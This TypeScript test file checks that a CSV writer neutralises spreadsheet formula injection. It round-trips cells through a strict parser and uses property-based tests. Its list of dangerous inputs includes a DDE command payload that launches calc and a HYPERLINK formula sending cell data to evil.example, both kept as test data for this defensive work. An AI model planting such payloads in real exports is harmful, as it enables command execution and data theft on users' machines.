import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { type Cell, CSV_BOM, csvRow } from "./csv";

/** RFC 4180, read strictly: an independent reader for the writer's output. */
function parse(text: string): string[][] {
  const records: string[][] = [];
  let cells: string[] = [];
  for (let at = 0; at < text.length; ) {
    let cell = "";
    if (text[at] === '"') {
      for (at++; ; at++) {
        if (at >= text.length) throw new Error("A quote is not closed.");
        if (text[at] === '"' && text[at + 1] !== '"') break;
        if (text[at] === '"') at++;
        cell += text[at];
      }
      at++;
    } else {
      while (at < text.length && text[at] !== "," && text[at] !== "\r" && text[at] !== "\n") {
        if (text[at] === '"') throw new Error("A quote stands inside a bare cell.");
        cell += text[at++];
      }
    }
    cells.push(cell);
    if (text[at] === ",") {
      at++;
      if (at === text.length) throw new Error("The record does not end.");
      continue;
    }
    if (text.slice(at, at + 2) !== "\r\n") throw new Error(`No line end at ${at}.`);
    at += 2;
    records.push(cells);
    cells = [];
  }
  return records;
}

const unmarked = (cell: string) => (cell.startsWith("'") ? cell.slice(1) : cell);

const DANGEROUS = [
  "=1+1",
  "+1",
  "-1",
  "@SUM(A1)",
  "\t=1",
  "\r=1",
  "\tx",
  "\rx",
  "\u0000=1",
  "＝1+1",
  "＋1",
  "－1",
  "＠SUM(A1)",
  " =1",
  "\u00A0=1",
  "\u200B=1",
  "\uFEFF=1",
  "a;=1",
  "a,=1",
  "a\n=1",
  "a\r\n=1",
  "a\t=1",
  "a; =1",
  'a","=1',
  "x\n\n  ＝cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
];

describe("a record of CSV", () => {
  it("is plain where nothing needs care", () => {
    expect(csvRow(["web-01", 12, -3, 10n, true, null, ""])).toBe("web-01,12,-3,10,true,,\r\n");
  });

  it("quotes separators, quotes and line ends", () => {
    expect(csvRow(['say "hi"', "a,b", "a\nb"])).toBe('"say ""hi""","a,b","a\nb"\r\n');
  });

  it.each(DANGEROUS)("marks and quotes %j", (text) => {
    expect(csvRow([text])).toBe(`"'${text.replaceAll('"', '""')}"\r\n`);
  });

  it.each(["a-b", "2026-11-22T10:14:00Z", "user@example.com", "x = y", "1+1", "person:0190-a"])(
    "leaves %j unmarked",
    (text) => {
      expect(parse(csvRow([text]))).toEqual([[text]]);
    },
  );

  it("begins with a mark by which spreadsheets know UTF-8", () => {
    expect(Buffer.from(CSV_BOM).toString("hex")).toBe("efbbbf");
  });
});

describe("any record of CSV", () => {
  const text = fc.oneof(
    fc.string({ unit: "binary" }),
    fc.string({ unit: fc.constantFrom(..."=+-@＝＋－＠'\"\t\r\n;,| \u0000a1\u200B") }),
    fc.constantFrom(...DANGEROUS),
  );

  it("reads back as the original, less the mark", () => {
    fc.assert(
      fc.property(fc.array(fc.array(text, { minLength: 1 }), { minLength: 1 }), (records) => {
        const read = parse(records.map((cells) => csvRow(cells)).join(""));
        expect(read.map((cells) => cells.map(unmarked))).toEqual(records);
      }),
    );
  });

  it("holds no cell of text that begins with what begins a formula", () => {
    fc.assert(
      fc.property(fc.array(text, { minLength: 1 }), (cells: Cell[]) => {
        for (const cell of parse(csvRow(cells)).flat()) {
          expect(cell).not.toMatch(/^[=+\-@\t\r\0＝＋－＠]/);
          if (!cell.startsWith("'")) expect(cell).not.toMatch(/[,;|\t\r\n\0][=+\-@＝＋－＠]/);
        }
      }),
    );
  });
});
